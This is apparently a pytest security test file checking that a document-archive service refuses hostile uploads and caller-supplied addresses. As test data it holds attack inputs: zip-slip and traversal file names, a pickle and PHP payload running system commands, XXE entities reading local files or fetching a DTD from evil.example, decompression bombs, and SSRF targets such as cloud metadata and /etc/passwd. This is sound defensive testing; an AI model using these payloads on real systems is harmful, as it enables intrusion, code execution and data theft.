"""Uploads are limited, never executed and never a path; XML has no entities; bombs are refused.

Published holes: zip-slip, decompression bombs, SSRF by a base URL or an address that a caller gives.
"""

from __future__ import annotations

import asyncio
import gzip
import io
import tempfile
import zipfile
import zlib
from pathlib import Path

import pytest

from groundwire.errors import InputError
from groundwire.report.bundle import read
from tests.doors.api.conftest import Api, Opened

NOTE = b"# A note\n\nThese are notes of my own about the harbour of Antwerp and its second lock.\n"
SLIPS = (
    "../../evil.md", "/etc/cron.d/evil.md", "..\\..\\evil.md", "C:\\evil.md", "a/../../evil.md",
    "evil.md\r\nX-Evil: 1", 'evil".md', "\u202edm.live", "....//evil.md", "~/evil.md", "%2e%2e/evil.md",
)  # fmt: skip


def _files(*places: Path) -> set[Path]:
    return {each for place in places for each in place.rglob("*") if each.is_file()}


async def test_uploads_are_never_a_path(opened: Opened, tmp_path: Path) -> None:
    async with opened() as api:
        client = await api.caller("run")
        kept = Path(tempfile.gettempdir())
        before = set(kept.glob("gw-upload-*"))
        for name in SLIPS:
            sent = {"file": (name, NOTE + name.encode("utf-8", "replace"))}
            answer = await client.post("/api/archive", files=sent)
            assert answer.status_code == 200, name
        assert [each for each in _files(tmp_path) if "evil" in each.name] == []
        # What was there only to be read is gone again.
        assert set(kept.glob("gw-upload-*")) <= before


async def test_uploads_are_never_executed(opened: Opened, tmp_path: Path) -> None:
    done = tmp_path / "done"
    script = f"#!/bin/sh\ntouch {done}\n".encode()
    code = f"__import__('pathlib').Path({str(done)!r}).touch()\n".encode()
    pickled = b"cposix\nsystem\n(S'touch " + str(done).encode() + b"'\ntR."
    async with opened() as api:
        client = await api.caller("run")
        for name, data in (
            ("a.sh", script), ("a.py", code), ("a.pkl", pickled), ("a.csv", code), ("a.json", code),
            ("a.html", b"<?php system('touch " + str(done).encode() + b"') ?>"),
            ("a.md", f'#read("{done}") {{{{ config }}}} {{% raw %}}'.encode()),
            ("a.svg", b"<svg onload='alert(1)'/>"), ("conftest.py", code), ("a.xml", script),
        ):  # fmt: skip
            answer = await client.post("/api/archive", files={"file": (name, data)})
            assert answer.status_code == 200, name
    assert not done.exists()


async def test_uploads_are_limited(opened: Opened) -> None:
    async with opened(desk__max_upload_bytes=50_000) as api:
        client = await api.caller("run")
        large = {"file": ("a.md", b"x" * 2_000_000)}
        assert (await client.post("/api/archive", files=large)).status_code == 413

        async def dripped():  # type: ignore[no-untyped-def]
            yield b'--b\r\nContent-Disposition: form-data; name="file"; filename="a.md"\r\n\r\n'
            for _ in range(40):
                yield b"x" * 50_000
            yield b"\r\n--b--\r\n"

        kind = {"Content-Type": "multipart/form-data; boundary=b"}
        answer = await client.post("/api/archive", content=dripped(), headers=kind)
        assert answer.status_code == 413  # without a length, it is counted as it comes
        many = [("file", (f"{n}.md", NOTE)) for n in range(101)]
        assert (await client.post("/api/archive", files=many)).status_code in (400, 413, 422)
        assert (await api.app.store.index.stats()).documents == 0


async def test_decompression_bombs_are_refused(opened: Opened) -> None:
    """Nothing that is sent is unpacked; a PDF is read under limits of time and memory."""
    zipped = io.BytesIO()
    with zipfile.ZipFile(zipped, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("../../evil.md", b"0" * 20_000_000)
    flate = zlib.compress(b"0" * 200_000_000, 9)
    pdf = (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
        b"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
        b"3 0 obj<</Type/Page/Parent 2 0 R/Contents 4 0 R/MediaBox[0 0 9 9]>>endobj\n"
        b"4 0 obj<</Filter/FlateDecode/Length " + str(len(flate)).encode() + b">>stream\n"
        + flate + b"\nendstream endobj\ntrailer<</Root 1 0 R>>\n"
    )  # fmt: skip
    async with opened() as api:
        client = await api.caller("run")
        for name, data in (
            ("a.zip", zipped.getvalue()), ("a.md", zipped.getvalue()), ("a.docx", zipped.getvalue()),
            ("a.html", gzip.compress(b"0" * 20_000_000)), ("a.pdf", pdf),
        ):  # fmt: skip
            answer = await client.post("/api/archive", files={"file": (name, data)})
            assert answer.status_code == 200, name
            assert len(answer.json()["added"]["failed"]) == 1, (name, answer.text)
        packed = {"Content-Encoding": "gzip", "Content-Type": "application/json"}
        body = gzip.compress(b'{"kind": "ask"}' + b" " * 20_000_000)
        refused = await client.post("/api/runs", content=body, headers=packed)
        assert refused.status_code in (400, 422)  # it is read as it is, and is no JSON
        assert (await api.app.store.index.stats()).documents == 0


def test_a_bundle_that_slips_or_swells_is_refused(tmp_path: Path) -> None:
    for name, how in (
        ("../../evil", zipfile.ZIP_STORED), ("/evil", zipfile.ZIP_STORED),
        ("run.json", zipfile.ZIP_DEFLATED),
    ):  # fmt: skip
        made = io.BytesIO()
        with zipfile.ZipFile(made, "w", how) as archive:
            archive.writestr(name, b"0" * 1_000_000)
        before = _files(tmp_path)
        with pytest.raises(InputError):
            read(made.getvalue())
        assert _files(tmp_path) == before


async def test_xml_has_no_dtd_and_no_entities(opened: Opened, tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("PLANTED", "utf-8")
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
    heads = (
        f'<!DOCTYPE x [<!ENTITY e SYSTEM "file://{secret}">]>',
        f'<!DOCTYPE x [<!ENTITY l0 "lol">{laughs}<!ENTITY e "&l11;">]>',
        '<!DOCTYPE x SYSTEM "http://evil.example/x.dtd">',
    )
    async with opened() as api:
        client = await api.caller("run")
        for head in heads:
            feed = (
                f'<?xml version="1.0"?>{head}<rss version="2.0"><channel><title>a</title><item>'
                "<title>&e;</title><link>https://a.example/1</link><description>&e; and enough "
                "words to be kept as a page of the archive</description></item></channel></rss>"
            )
            for name in ("a.xml", "a.rss", "a.opml"):
                sent = {"file": (name, feed.encode())}
                answer = await client.post("/api/archive", files=sent)
                assert answer.status_code in (200, 202), (name, answer.text)
                assert "PLANTED" not in answer.text
        found = await client.get("/api/evidence", params={"q": "PLANTED"})
        assert "PLANTED" not in found.text.replace('"PLANTED"', "")
        for run in await api.app.runs.recent(50):
            await api.ended(run.id)


# --- addresses that a caller gives ---------------------------------------------------------------

INSIDE = (
    "http://127.0.0.1:{port}/", "http://localhost:{port}/", "http://[::1]:{port}/",
    "http://0.0.0.0:{port}/", "http://2130706433:{port}/", "http://127.1:{port}/",
    "http://[::ffff:127.0.0.1]:{port}/", "http://169.254.169.254/latest/meta-data/",
    "http://10.0.0.1/", "http://192.168.0.1/", "http://[fd00::1]/", "file:///etc/passwd",
    "gopher://127.0.0.1:{port}/", "ftp://127.0.0.1/",
)  # fmt: skip


async def test_ssrf_no_address_of_a_caller_leads_inside(opened: Opened) -> None:
    """Through tools and the archive: nothing of this machine or its network is asked."""
    received: list[bytes] = []

    async def answer(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        received.append(await reader.read(200))
        writer.close()

    server = await asyncio.start_server(answer, "127.0.0.1", 0)
    port = server.sockets[0].getsockname()[1]
    async with server, opened(offline=False, search__chain=["archive"]) as api:
        client = await api.caller("run")
        for form in INSIDE:
            url = form.format(port=port)
            for tool in ("read", "feed", "collect"):
                response = await client.post(f"/api/tools/{tool}?wait=60", json={"url": url})
                assert response.status_code in (200, 422), (tool, url, response.text)
                if response.status_code == 200:
                    # What is no address of the web at all fails before anybody could block it.
                    code = "address" if url.startswith("http") else "failed"
                    assert response.json()["error"]["code"] == code, (tool, url, response.text)
            sent = await client.post("/api/archive", data={"url": [url]})
            for run in sent.json().get("runs", ()) if sent.status_code < 400 else ():
                assert (await api.ended(run["id"])).state == "failed"
    assert received == []


async def test_ssrf_no_caller_sets_a_base_url_a_key_or_a_budget(api: Api) -> None:
    """Published hole: a base URL in the options of a run sends the desk's key to its author."""
    client = await api.caller("admin")
    names = (
        "models.providers.openai.base_url", "search.providers.tavily.base_url", "base_url",
        "search.providers.tavily.api_key", "fetch.allow_private", "fetch.proxies", "budget.run_usd",
        "home", "database_url", "desk.require_token", "search.chain", "models.light", "__class__",
    )  # fmt: skip
    for name in names:
        sent = {
            "kind": "ask",
            "input": {"question": "why"},
            "options": {name: "http://evil.example"},
        }
        answer = await client.post("/api/runs", json=sent)
        assert answer.status_code == 422, name
        inside = {"kind": "ask", "input": {"question": "why", name: "http://evil.example"}}
        assert (await client.post("/api/runs", json=inside)).status_code == 422, name
    extra = {"query": "x", "base_url": "http://evil.example"}
    assert (await client.post("/api/tools/search", json=extra)).status_code == 422
    offline = {"kind": "ask", "input": {"question": "why"}, "options": {"offline": False}}
    assert (await client.post("/api/runs", json=offline)).status_code == 422
    assert await api.app.runs.recent(1) == []


async def test_an_address_with_a_password_is_never_kept(api: Api) -> None:
    client = await api.caller("run")
    url = "https://anna:pa55w0rd-planted@example.com/"
    for tool in ("read", "feed", "collect"):
        answer = await client.post(f"/api/tools/{tool}", json={"url": url})
        assert answer.status_code == 422, tool
        assert "pa55w0rd" not in answer.text
    answer = await client.post("/api/archive", data={"url": url})
    assert "pa55w0rd" not in answer.text
    held = api.app.settings.data_home()
    assert not [each for each in _files(held) if b"pa55w0rd" in each.read_bytes()]
